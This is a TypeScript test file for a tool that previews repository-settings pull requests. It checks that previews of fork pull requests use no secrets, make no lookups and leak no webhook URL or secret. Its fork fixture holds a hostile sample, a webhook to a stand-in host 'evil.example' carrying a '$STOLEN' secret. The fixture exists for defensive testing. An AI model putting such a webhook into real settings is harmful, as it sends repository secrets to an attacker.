import { describe, expect, it } from 'vitest';
import { formatLines } from '../kit/runs/scene.ts';
import { openPullScene } from '../kit/workflows/pull-request.ts';

const liveWebhookUrl = 'https://hooks.example/canary-of-the-live-webhook';
const secret = 'canary-of-the-secret';
const base = 'labels:\n  - {name: bug, color: aaaaaa}\n';

/** A file from a fork that names people, teams, environments and a secret of the job. */
const forkFile = `${base.replace('aaaaaa', 'bbbbbb')}collaborators:
  - {username: made-up-person, permission: push}
teams:
  - {name: made-up-team, permission: push}
webhooks:
  - {config: {url: "https://evil.example/in?key=made-up-hook", content_type: json, secret: $STOLEN}, events: [push]}
environments:
  - name: made-up-environment
    reviewers: [{type: User, id: 4242}, {team: made-up-reviewers}]
`;
const repository = {
  labels: [{ name: 'bug', color: 'cccccc', description: null }],
  webhooks: [{ config: { url: liveWebhookUrl, content_type: 'json' }, events: ['push'] }],
};

const events = ['pull_request', 'pull_request_target', 'workflow_run'] as const;

function openForkScene(event: (typeof events)[number]) {
  const grants = event === 'pull_request' ? ({ Contents: 'read', 'Pull requests': 'read' } as const) : undefined;
  const scene = openPullScene({ base, repository, event, from: 'mallory/shop', ...(grants && { grants }) });
  const push = (settings = forkFile, options = {}) =>
    scene.push(settings, { pullRequest: 7, fork: false, ...options }, 1, { STOLEN: secret });
  return { ...scene, push };
}

describe.each(events)('a preview of a fork for the event %s', (event) => {
  it('a preview of a fork compares only the files, uses no secret and looks up no name from the file [12.7]', async () => {
    const { push, asked, comments, checkRuns } = openForkScene(event);
    const result = await push();
    expect(formatLines(result, 'error')).toEqual([]);
    expect(result.targets[0]!.preview).toMatchObject({ against: 'files' });
    expect(new Set(asked.map(({ token }) => token))).toEqual(new Set(['workflow']));
    const reads = asked.filter(({ request }) => request.startsWith('GET ')).map(({ request }) => request.slice(4));
    const allowed =
      /^\/repos\/acme\/shop\/(pulls\/7|commits\/[0-9a-c]+|contents\/[^/]+|git\/trees\/[0-9a-f]+|issues\/7\/comments)$/;
    expect(reads.filter((path) => !allowed.test(path))).toEqual([]);
    const outputs = JSON.stringify([result, comments(), checkRuns()]);
    expect(outputs).not.toContain(liveWebhookUrl);
    expect(outputs).not.toContain(secret);
    expect(outputs).not.toContain('cccccc');
    expect(outputs).not.toContain('made-up-hook');
    expect(outputs).toContain('bbbbbb');
    expect(outputs).toContain('made-up-reviewers');
    expect(formatLines(result, 'note').join()).toContain(
      'compares the names of people, teams, apps and roles without looking them up',
    );
  });

  it('a preview of a fork ignores inputs that would make it read the repository [12.7]', async () => {
    const { push, asked } = openForkScene(event);
    await push(forkFile, { fork: false, base: undefined });
    expect(asked.some(({ request }) => /labels|hooks|collaborators|teams/.test(request))).toBe(false);
  });

  it('a preview of a fork sends no request to another repository that the settings are for [12.7]', async () => {
    const { push, asked } = openForkScene(event);
    await push(forkFile, { repository: { owner: 'acme', name: 'other' } });
    expect(asked.filter(({ request }) => !request.includes('/repos/acme/shop/'))).toEqual([]);
    expect(asked.length).toBeGreaterThan(0);
  });

  it('a preview of a fork refuses a file with mistakes', async () => {
    const result = await openForkScene(event).push('labels: 7\n');
    expect([result.outcome, formatLines(result, 'error')[0]]).toEqual([
      'failed',
      expect.stringContaining('must be a list'),
    ]);
  });

  it('a preview of a fork uses no other token if the workflow passes no report token [12.7]', async () => {
    const { push, asked } = openForkScene(event);
    const result = await push(forkFile, { reportToken: undefined });
    expect([result.outcome, asked]).toEqual(['failed', []]);
    expect(formatLines(result, 'error')[0]).toContain(
      '`report-token` is empty, and a preview for forks cannot use secrets',
    );
  });
});

it.each(['pull_request_target', 'workflow_run'] as const)(
  'treats every pull request in %s as one from a fork, because the event has access to secrets',
  async (event) => {
    const { push, asked } = openPullScene({ base, repository, event });
    expect((await push(forkFile, { pullRequest: 7 })).targets[0]!.preview).toMatchObject({ against: 'files' });
    expect(new Set(asked.map(({ token }) => token))).toEqual(new Set(['workflow']));
  },
);

describe.each(['issue_comment', 'workflow_dispatch', 'push', 'schedule'])(
  'a pull request that a job of %s names',
  (event) => {
    const openEvent = (from: string, options = {}) => {
      const scene = openPullScene({ base, repository, event, from });
      return { ...scene, run: () => scene.push(forkFile, { pullRequest: 7, ...options }, 1, { STOLEN: secret }) };
    };

    it.each([{}, { post: false, base: 'origin/main' }])(
      'a pull request counts as one from a fork if GitHub reports it as one, with any other options: %j [12.7]',
      async (options) => {
        const { run, asked, comments } = openEvent('mallory/shop', options);
        const result = await run();
        expect(new Set(asked.map(({ token }) => token))).toEqual(new Set(['workflow']));
        expect(asked.some(({ request }) => /labels|hooks|collaborators|teams/.test(request))).toBe(false);
        expect(JSON.stringify([result, comments()])).not.toContain(liveWebhookUrl);
        if (!('base' in options)) expect(result.targets[0]!.preview).toMatchObject({ against: 'files' });
      },
    );

    it('compares a pull request with the repository if it comes from the repository itself', async () => {
      const { run, asked } = openEvent('acme/shop');
      await run();
      expect(asked.filter(({ token }) => token === 'reading').some(({ request }) => /labels/.test(request))).toBe(true);
    });
  },
);

it('writes to the pull request if the token of the event can, and stores no plan for apply', async () => {
  const { push, comments, checkRuns } = openForkScene('pull_request_target');
  await push();
  expect(comments()[0]!.body.replace(/<[^>]+>/g, '')).toContain(
    'This pull request gives access to made-up-person and made-up-team, deletes unlisted entries of collaborators, changes access (1 setting), and changes 2 more settings in the file',
  );
  expect(checkRuns()).toMatchObject([{ conclusion: 'success', output: { text: null } }]);
});

it('a note reports the comment and check run that a read-only token could not write', async () => {
  const { push, writes } = openForkScene('pull_request');
  const result = await push();
  expect(formatLines(result, 'warning')).toEqual([]);
  expect(formatLines(result, 'note').join('\n')).toMatch(
    /the comment was not written[\s\S]*the check run was not written/,
  );
  expect(writes().length).toBe(2);
});

it('requires the pull request number if `workflow_run` does not contain it, and rejects a wrong one', async () => {
  const withoutNumber = openForkScene('workflow_run');
  expect([
    formatLines(await withoutNumber.push(forkFile, { pullRequest: undefined }), 'error')[0],
    withoutNumber.asked,
  ]).toEqual([expect.stringContaining('the event `workflow_run` does not contain the pull request'), []]);
  const pushWithPullRequests = async (...pullRequests: readonly number[]) =>
    formatLines(
      await openPullScene({ base, event: 'workflow_run', named: pullRequests }).push(forkFile),
      'error',
    ).join();
  expect([await pushWithPullRequests(7), await pushWithPullRequests(7, 8)]).toEqual([
    '',
    expect.stringContaining('does not contain the pull request'),
  ]);
  expect(formatLines(await openForkScene('pull_request').push(forkFile, { pullRequest: 8 }), 'error')[0]).toContain(
    '`--pull-request` is 8, but the event belongs to pull request #7',
  );
});

it.each([
  ['teams: [{name: core, permission: push}]', true],
  ['repository: {name: other}', true],
  ['repository: {description: New}', false],
  ['custom_properties: [{property_name: tier, value: one}]', true],
])('the check run is neutral if a brake might stop the change `%s` from a fork: %s', async (text, isUnchecked) => {
  const { push, checkRuns } = openForkScene('pull_request_target');
  await push(`${base}${text}\n`, { brakes: 'stop' });
  expect(checkRuns()).toMatchObject([{ conclusion: isUnchecked ? 'neutral' : 'success' }]);
});

it('compares only files with `fork: true`, and quotes no invalid file of a hidden repository', async () => {
  const { push, asked } = openPullScene({ base, repository });
  expect((await push(forkFile, { fork: true })).targets[0]!.preview!.against).toBe('files');
  expect(asked.some(({ request }) => request.includes('labels'))).toBe(false);
  const hiddenRepository = { owner: 'acme', name: 'secret', visibility: 'private' } as const;
  for (const from of ['acme/shop', 'mallory/shop']) {
    const options = { repository: hiddenRepository, fork: from === 'acme/shop' };
    const result = await openPullScene({ base, from, others: [hiddenRepository] }).push(
      'labels: [{nam: bug}]\n',
      options,
    );
    expect(formatLines(result, 'error')).toEqual([
      expect.stringContaining('the settings file is not valid (withheld)'),
    ]);
  }
});
